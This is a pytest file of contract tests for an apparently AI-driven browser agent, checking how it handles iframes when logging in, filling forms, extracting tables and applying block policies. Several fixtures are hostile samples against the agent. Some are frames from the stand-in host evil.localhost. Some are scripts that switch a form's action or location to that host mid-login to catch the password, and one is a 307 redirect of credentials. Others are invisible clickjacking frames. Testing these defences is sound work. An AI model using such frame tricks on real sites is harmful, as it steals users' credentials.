"""Contract tests of frames, in raw JSON, judged at the pages' server: what is read, done and filled in there."""

from __future__ import annotations

import json

import pytest

from helpers.login_site import FORM, LoginSite

WELL = {"email": "ada.lovelace@planted.example", "password": 'p4ss "wörd" & 7+7'}
OTHERS = {"email": "ada@shop.example", "password": "of-the-shop-alone"}
MINE = [{"match": "login.localhost", "fields": WELL}]
BOTH = [*MINE, {"match": "shop.localhost", "fields": OTHERS}]
TABLE = (
    "<table><tr><th>part</th><th>price</th></tr><tr><td>{0}</td><td>{1}</td></tr>"
    "<tr><td>Nut</td><td>4</td></tr></table>"
)
ROWS = {"type": "array", "items": {"type": "object", "properties": {n: {"type": "string"} for n in ("part", "price")}}}
FILLED = (
    "<form method=post action=/filled><label>{} <input name=q></label><button name=by value={}>Deliver</button></form>"
)


@pytest.fixture(scope="module")
def shared_site():
    site = LoginSite()
    yield site
    site.close()


@pytest.fixture
def site(shared_site):
    shared_site.posted.clear()
    shared_site.pages.clear()
    return shared_site


def framed(site, host, path="/login", more="width=600 height=300"):
    return f'<iframe src="{site.url(path, host)}" {more}></iframe>'


def posted(site, host):
    return [form for at, _, form in site.posted if at == host]


def at(site, path, host, *named, then):
    """Return a text that names hosts with private addresses, so that only the tested rule can refuse them."""
    pages = [site.url("/x", f"{name}.localhost") for name in named]
    return "\n".join([*(f"Go to {page}" for page in [*pages, site.url(path, f"{host}.localhost")]), then])


# --- secrets ----------------------------------------------------------------------------------------------------------


def test_a_login_in_a_frame_of_the_same_host_is_filled_in(run, site):
    site.page("/account", f"<title>Account</title>{framed(site, 'login.localhost')}")
    body = run("Log in", startingPoint=site.url("/account"), secrets=MINE)
    assert (body["status"], posted(site, "login.localhost")) == ("complete", [WELL]), body


def test_a_login_in_a_frame_of_another_host_gets_what_is_for_that_host(run, site):
    site.page("/account", f"<title>Account</title>{framed(site, 'login.localhost')}")
    body = run(at(site, "/account", "shop", "login", then="Log in"), secrets=BOTH)
    assert (body["status"], site.posted) == ("complete", [("login.localhost", "/login", WELL)]), body


def test_a_frame_is_not_filled_in_within_a_page_that_no_secret_is_for(run, site):
    site.page("/account", f"<title>Account</title>{framed(site, 'login.localhost')}")
    everywhere = [*MINE, {"match": "all", "fields": OTHERS}]  # a secret without a host pattern trusts no frame
    body = run(at(site, "/account", "evil", "login", then="Log in"), secrets=everywhere)
    assert (body["status"], body["code"], site.posted) == ("failed", "BLOCKED_BY_POLICY", []), body
    assert "in a frame of login.localhost in evil.localhost" in body["message"]


@pytest.mark.parametrize(
    "frame",
    [
        '<iframe src="http://evil.localhost:{port}/login" width=600 height=300></iframe>',
        '<iframe src="http://evil.localhost:{port}/holds" width=600 height=300></iframe>',
        "<iframe width=600 height=300 srcdoc='" + FORM.format(action="/login") + "'></iframe>",
        '<iframe src="http://login.localhost:{port}/login" sandbox="allow-forms allow-scripts" width=600 height=300>',
        "<iframe id=f width=600 height=300></iframe><script>f.contentDocument.body.innerHTML = `"
        + FORM.format(action="/login")
        + "`</script>",
    ],
    ids=["hostile", "in a hostile one", "srcdoc", "sandboxed", "about:blank"],
)
def test_what_is_no_frame_of_the_host_gets_nothing_of_the_page_around_it(run, site, frame):
    site.page("/account", f"<title>Account</title>{frame}")
    site.page("/holds", framed(site, "login.localhost"))
    body = run(at(site, "/account", "login", "evil", then="Log in"), secrets=MINE)
    assert site.posted == [], body
    assert body["status"] in ("failed", "guardrail_trigger")


@pytest.mark.parametrize(
    "turn",
    [
        "location = 'http://evil.localhost:{port}/login'",
        "parent.document.querySelector('iframe').src = 'http://evil.localhost:{port}/login'",
        "document.forms[0].action = 'http://evil.localhost:{port}/login'",
        "parent.document.querySelector('iframe').sandbox = 'allow-forms'",
    ],
    ids=["it goes", "it is sent", "its form", "sandboxed"],
)
def test_a_frame_that_turns_between_the_look_and_the_password_does_not_get_it(run, site, turn):
    """The frame may have the e-mail; it navigates when that is typed, and the password would come next."""
    site.page(
        "/turns", FORM.format(action="/login") + f"<script>document.forms[0].email.oninput = () => {{{turn}}}</script>"
    )
    site.page("/account", f"<title>Account</title>{framed(site, 'login.localhost', '/turns')}")
    body = run(at(site, "/account", "login", "evil", then="Log in"), secrets=MINE)
    assert (body["status"], site.posted) == ("failed", []), body


def test_secrets_typed_in_a_frame_are_not_redirected_to_another_host(run, site):
    site.page("/again", FORM.format(action="/again/307/evil.localhost/login"))
    site.page("/account", f"<title>Account</title>{framed(site, 'login.localhost', '/again')}")
    body = run(at(site, "/account", "shop", "login", "evil", then="Log in"), secrets=BOTH)
    assert (posted(site, "login.localhost"), posted(site, "evil.localhost")) == ([WELL], []), body
    assert "must not be sent on" in body["message"]


# --- acting -----------------------------------------------------------------------------------------------------------


def test_fields_choices_and_buttons_of_a_frame_are_used(run, site):
    site.page("/form", "<form method=post action=/filled><label>Street <input name=street></label>"
              "<label>Size <select name=size><option>Small<option>Large</select></label>"
              "<label><input type=checkbox name=gift> Gift wrap</label><button>Deliver</button></form>")  # fmt: skip
    site.page("/holds", framed(site, "evil.localhost", "/form"))
    site.page("/account", f"<title>Account</title>{framed(site, 'shop.localhost', '/holds')}")
    steps = [
        'Type "Elm 5" into the Street field',
        'Select "Large" in the Size list',
        "Check Gift wrap",
        "Click the Deliver button",
    ]
    body = run(at(site, "/account", "login", "shop", "evil", then="\n".join(steps)))
    assert posted(site, "evil.localhost") == [{"street": "Elm 5", "size": "Large", "gift": "on"}], body


def test_a_frame_does_not_get_in_the_way_of_the_page_itself(run, site):
    site.page("/form", FILLED.format("Query", "frame"))
    site.page("/account", f"{framed(site, 'evil.localhost', '/form')}{FILLED.format('Query', 'page')}")
    body = run(
        at(site, "/account", "login", "evil", then='Type "words" into the Query field\nClick the Deliver button')
    )
    assert site.posted == [("login.localhost", "/filled", {"q": "words", "by": "page"})], body


@pytest.mark.parametrize(
    "unseen",
    ["style=opacity:0.1", "width=10 height=10", "style='position:absolute;left:-900px'"],
    ids=["transparent", "tiny", "off the page"],
)
def test_an_invisible_frame_is_not_used(run, site, unseen):
    site.page("/form", FILLED.format("Query", "frame"))
    site.page("/account", framed(site, "login.localhost", "/form", unseen))
    body = run("Click the Deliver button", startingPoint=site.url("/account"))
    assert (body["status"], body["code"], site.posted) == ("failed", "ELEMENT_NOT_FOUND", []), body


# --- reading ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("host", ["login", "shop"])
def test_a_table_in_a_frame_is_extracted_and_says_where_it_is_from(emulator, run, site, host):
    site.page("/parts", TABLE.format("Bolt", 3))
    site.page("/account", f"<title>Parts</title><p>Our parts.</p>{framed(site, f'{host}.localhost', '/parts')}")
    then = "Extract the part and price of each row"
    body = run(at(site, "/account", "login", host, then=then), outputType="structured_json", outputSchema=ROWS)
    assert json.loads(body["data"]["message"]) == [{"part": "Bolt", "price": "3"}, {"part": "Nut", "price": "4"}], body
    _, task = emulator.get(f"/_emulator/tasks/{body['taskId']}/provenance")
    assert {source["page"] for source in task["provenance"]} == {site.url("/parts", f"{host}.localhost")}


def test_the_table_of_the_page_itself_comes_before_that_of_another_host(run, site):
    site.page("/parts", TABLE.format("Lure", 0))
    site.page("/account", f"{framed(site, 'evil.localhost', '/parts')}{TABLE.format('Bolt', 3)}")
    then = "Extract the part and price of each row"
    body = run(at(site, "/account", "login", "evil", then=then), outputType="structured_json", outputSchema=ROWS)
    assert [row["part"] for row in json.loads(body["data"]["message"])] == ["Bolt", "Nut"], body


# --- policies ---------------------------------------------------------------------------------------------------------


def test_a_frame_of_a_host_to_avoid_is_neither_loaded_nor_used(run, site):
    site.page("/form", FILLED.format("Query", "frame"))
    site.page("/account", framed(site, "evil.localhost", "/form"))
    then = at(site, "/account", "login", then="Click the Deliver button")
    body = run(f"{then}", avoidDomains=["evil.localhost"])
    assert (body["status"], site.posted) == ("failed", []), body
    assert run(at(site, "/account", "login", "evil", then="Click the Deliver button"))["status"] == "complete"
    assert posted(site, "evil.localhost") == [{"by": "frame"}]


@pytest.mark.parametrize("word", ["evil.localhost", "Danger zone"])
def test_a_rule_about_a_page_goes_by_the_frame_as_well(emulator, run, site, word):
    site.page("/form", f"<p>Danger zone</p>{FILLED.format('Query', 'frame')}")
    site.page("/account", framed(site, "evil.localhost", "/form"))
    rule = {"category": "Click", "permission": "block", "scope": "page", "match": word, "matchType": "keyword"}
    _, made = emulator.post("/policies", {"name": "frames", "actionRules": [rule]})
    body = run(at(site, "/account", "login", "evil", then="Click the Deliver button"), policyId=made["policy"]["_id"])
    assert (body["status"], body["code"], site.posted) == ("failed", "BLOCKED_BY_POLICY", []), body
